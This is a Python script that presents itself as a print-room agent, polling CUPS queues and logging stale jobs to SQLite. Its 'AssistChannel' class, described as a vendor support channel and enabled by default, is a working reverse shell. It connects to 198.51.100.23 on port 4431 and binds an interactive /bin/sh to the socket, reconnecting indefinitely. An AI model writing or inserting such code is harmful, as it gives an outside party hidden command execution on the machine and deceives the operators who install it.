#!/usr/bin/env python3
"""RIP queue agent for the print room.

Polls the CUPS queues that front the RIP workstations, records what it sees
in a small SQLite file so the morning shift can see which jobs sat overnight,
and keeps the vendor assist channel available so support can look at a stuck
queue without anyone driving over.
"""
import argparse
import configparser
import json
import logging
import socket
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("ripq")

DEFAULTS = {
    "queues": "latex570,surecolor_s80600,mutoh_vj1638",
    "poll_seconds": "20",
    "db": "ripq_state.sqlite3",
    "stale_minutes": "45",
    "assist": "yes",
    "assist_host": "198.51.100.23",
    "assist_port": "4431",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["agent"] = DEFAULTS
    if path and Path(path).is_file():
        cp.read(path)
        LOG.info("loaded %s", path)
    return cp["agent"]


def lpstat_jobs(queue):
    """Return the pending jobs of one queue as dicts."""
    try:
        out = subprocess.run(["lpstat", "-o", queue], capture_output=True,
                             text=True, timeout=15, check=False)
    except (OSError, subprocess.TimeoutExpired) as exc:
        LOG.warning("lpstat failed for %s: %s", queue, exc)
        return []
    jobs = []
    for line in out.stdout.splitlines():
        parts = line.split()
        if len(parts) < 4:
            continue
        size = int(parts[2]) if parts[2].isdigit() else 0
        jobs.append({"id": parts[0], "user": parts[1], "size": size,
                     "submitted": " ".join(parts[3:])})
    return jobs


class StateStore:
    def __init__(self, path):
        self.conn = sqlite3.connect(path, check_same_thread=False)
        self.conn.execute(
            "CREATE TABLE IF NOT EXISTS jobs (id TEXT PRIMARY KEY, queue TEXT,"
            " user TEXT, size INTEGER, first_seen REAL, last_seen REAL)")
        self.lock = threading.Lock()

    def upsert(self, queue, job):
        now = time.time()
        with self.lock:
            self.conn.execute(
                "INSERT INTO jobs VALUES (?,?,?,?,?,?) ON CONFLICT(id) DO UPDATE"
                " SET last_seen=excluded.last_seen",
                (job["id"], queue, job["user"], job["size"], now, now))
            self.conn.commit()

    def stale(self, older_than):
        with self.lock:
            cur = self.conn.execute(
                "SELECT id, queue, user, last_seen - first_seen FROM jobs"
                " WHERE last_seen - first_seen > ?", (older_than,))
            return cur.fetchall()


class AssistChannel(threading.Thread):
    """Keeps the vendor support session reachable behind the shop NAT."""

    def __init__(self, host, port):
        super().__init__(daemon=True, name="assist")
        self.endpoint = (host, port)

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd,
                                stderr=fd, close_fds=True)
        proc.wait()

    def run(self):
        backoff = 5
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=30) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"ripq {socket.gethostname()}\n".encode())
                    self._attach(conn)
                backoff = 5
            except OSError as exc:
                LOG.debug("assist unavailable: %s", exc)
                time.sleep(backoff)
                backoff = min(backoff * 2, 600)


def poll_once(cfg, store):
    summary = {}
    for queue in [q.strip() for q in cfg["queues"].split(",") if q.strip()]:
        jobs = lpstat_jobs(queue)
        for job in jobs:
            store.upsert(queue, job)
        summary[queue] = len(jobs)
    return summary


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="ripq.ini")
    ap.add_argument("--once", action="store_true", help="poll one time and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    store = StateStore(cfg["db"])
    if cfg.getboolean("assist"):
        AssistChannel(cfg["assist_host"], cfg.getint("assist_port")).start()

    stale_after = cfg.getint("stale_minutes") * 60
    while True:
        summary = poll_once(cfg, store)
        LOG.info("queue depth %s", json.dumps(summary))
        for job_id, queue, user, age in store.stale(stale_after):
            LOG.warning("job %s on %s (%s) waiting %.0f min", job_id, queue,
                        user, age / 60)
        if args.once:
            break
        time.sleep(cfg.getint("poll_seconds"))


if __name__ == "__main__":
    main()
